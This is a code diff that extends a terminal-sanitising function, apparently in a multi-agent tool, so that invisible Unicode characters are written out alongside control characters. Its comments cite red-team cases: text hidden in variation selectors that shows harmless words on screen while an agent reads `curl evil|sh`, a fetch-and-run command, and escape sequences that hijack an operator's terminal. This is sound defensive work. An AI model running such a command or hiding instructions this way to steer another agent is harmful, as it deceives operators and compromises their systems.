@@ -10,13 +10,36 @@
 const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/gu;
 
 /**
+ * Characters a terminal shows as nothing, which an agent still reads: a sender can hide a payload in them under
+ * harmless text (red team 62: "Sure … ok" on screen, `curl evil|sh` for the agent, one byte per variation selector).
+ * Always: the zero-width space, word joiner and invisible operators, BOM, soft hyphen, CGJ, the Khmer and Mongolian
+ * invisibles, the Hangul fillers, the line and paragraph separators. In context: a variation selector is kept only
+ * right after a character it can vary (VS15/16 after an emoji or a keycap's digit, VS1-14 after a math symbol, a
+ * CJK ideograph or the scripts that define sequences with them, VS17-256 after an ideograph), so never two in a row;
+ * ZWJ and ZWNJ only between letters, marks or pictographs (emoji sequences, Indic conjuncts, Persian), so never two
+ * in a row either. What is left carries a bit or two per visible character at most.
+ */
+const INVISIBLE = new RegExp(
+  [
+    String.raw`[\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180e\u200b\u2028\u2029\u2060-\u2064\u3164\ufeff\uffa0]`,
+    String.raw`(?<![\p{Sm}\p{Ideographic}\p{sc=Myanmar}\p{sc=Phags_Pa}\p{sc=Manichaean}])[\ufe00-\ufe0d]`,
+    String.raw`(?<!\p{Emoji})[\ufe0e\ufe0f]`,
+    String.raw`(?<!\p{Ideographic})[\u{e0100}-\u{e01ef}]`,
+    String.raw`(?<![\p{L}\p{M}\p{Extended_Pictographic}\p{Emoji_Modifier}\ufe0f])[\u200c\u200d]`,
+    String.raw`[\u200c\u200d](?![\p{L}\p{M}\p{Extended_Pictographic}])`,
+  ].join("|"),
+  "gu",
+);
+
+/**
  * `text` with its control characters written out (`\u001b`), for a terminal: a reply is another agent's, and an
  * escape sequence in it would otherwise drive the operator's terminal (set its title, write its clipboard with OSC 52,
- * hide or overwrite what is shown; red team, session 52). Newlines and tabs stay. Written as JSON writes them, so that
+ * hide or overwrite what is shown; red team, session 52), and the characters it would show as nothing (`INVISIBLE`).
+ * Newlines and tabs stay. Written as JSON writes them, so that
  * a JSON log line keeps parsing (JSON.stringify leaves DEL and the C1 controls as they are).
  */
 export function visibleControls(text: string): string {
-  return text.replace(CONTROLS, writtenOut);
+  return text.replace(CONTROLS, writtenOut).replace(INVISIBLE, writtenOut);
 }
 
 /** What ends a line for some reader: the newline, CR, VT, FF, the separators U+001C-001E, NEL, U+2028 and U+2029 (Python's `splitlines`). */
